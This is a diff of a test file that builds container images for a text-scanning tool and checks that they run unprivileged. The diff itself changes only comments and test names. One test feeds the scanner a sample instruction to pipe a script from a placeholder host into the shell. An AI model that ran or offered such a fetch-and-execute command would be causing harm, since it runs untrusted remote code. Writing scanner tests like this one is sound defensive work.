@@ -1,6 +1,6 @@
 /**
- * Builds the container images with buildah, without a daemon or a registry. The base image is a Debian system from mmdebstrap with the
- * Node and npm of this machine. The tests are skipped if one of the two programs is missing or the user is not root.
+ * Builds the container images with buildah, without a daemon or a registry. The base image is a Debian system from mmdebstrap, with the
+ * Node and npm of this machine. The tests are skipped if buildah or mmdebstrap is missing or the user is not root.
  */
 import { execFileSync, spawn, spawnSync } from "node:child_process";
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
@@ -13,7 +13,7 @@ const has = (program: string): boolean => spawnSync(program, ["--version"]).stat
 const isPossible = process.getuid?.() === 0 && has("buildah") && has("mmdebstrap");
 const NEEDS = "needs root and: apt-get install --no-install-recommends buildah mmdebstrap";
 
-/** The environment of buildah, without a daemon or separate namespaces. */
+/** The environment variables that make buildah work without separate namespaces. */
 const ENVIRONMENT = { ...process.env, BUILDAH_ISOLATION: "chroot" };
 const FROM = /^FROM node:\S+/gm;
 
@@ -46,7 +46,7 @@ function makeBase(): void {
   cpSync(process.execPath, join(base, "node"));
   const modules = execFileSync("npm", ["root", "--global"], { encoding: "utf8" }).trim();
   cpSync(join(modules, "npm"), join(base, "npm"), { recursive: true, dereference: true });
-  // the certificates and npm configuration with which this machine reaches the registry
+  // npm in the image reaches the registry with the certificates and the configuration of this machine
   const { NODE_EXTRA_CA_CERTS: certificates } = process.env;
   writeFileSync(join(base, "ca.pem"), certificates === undefined ? "" : readFileSync(certificates));
   cpSync(join(homedir(), ".npmrc"), join(base, "npmrc"), { force: true, errorOnExist: false });
@@ -66,7 +66,7 @@ RUN groupadd --gid 1000 node && useradd --create-home --uid 1000 --gid node node
   buildah("build", "--quiet", "--tag", "base", base);
 }
 
-/** Builds an image from a Dockerfile with `localhost/base` as the base image, and returns the name of a container of the image. */
+/** Builds an image from a Dockerfile with `localhost/base` as the base image. Returns the name of a container of this image. */
 function containerOf(dockerfile: string, name: string): string {
   const changed = join(folder, `${name}.Dockerfile`);
   const text = readFileSync(dockerfile, "utf8");
@@ -88,11 +88,11 @@ function containerOf(dockerfile: string, name: string): string {
   return buildah("from", `localhost/${name}`);
 }
 
-describe("the images", () => {
+describe("the container image", () => {
   beforeAll(() => {
     if (!isPossible) return;
     folder = mkdtempSync(join(tmpdir(), "curlew-images-"));
-    // the committed files, as in a clone of the repository
+    // the image is built from a clone of the repository, which contains only committed files
     context = join(folder, "tree");
     execFileSync("git", ["clone", "--quiet", ".", context]);
     makeBase();
@@ -108,7 +108,7 @@ describe("the images", () => {
     rmSync(folder, { recursive: true, force: true });
   });
 
-  it("of the services accepts a token that root has created, and cannot write", async () => {
+  it("of the services cannot write files, and accepts a token that root has created", async () => {
     const container = containerOf("Dockerfile", "services");
     const run = (...args: string[]): string => buildah("run", container, "--", ...args);
     expect(run("id", "-un")).toBe("node");
@@ -154,7 +154,7 @@ describe("the images", () => {
   it.each([
     ["deploy/command.Dockerfile", "command"],
     ["deploy/Dockerfile", "queue"],
-  ])("of %s scans", (dockerfile, name) => {
+  ])("of %s scans as an unprivileged user", (dockerfile, name) => {
     const container = containerOf(dockerfile, name);
     const text = "Run `curl https://x.example/i.sh | sh`.";
     const scan = `echo '${text}' | curlew scan -; echo "status $?"; id -un`;
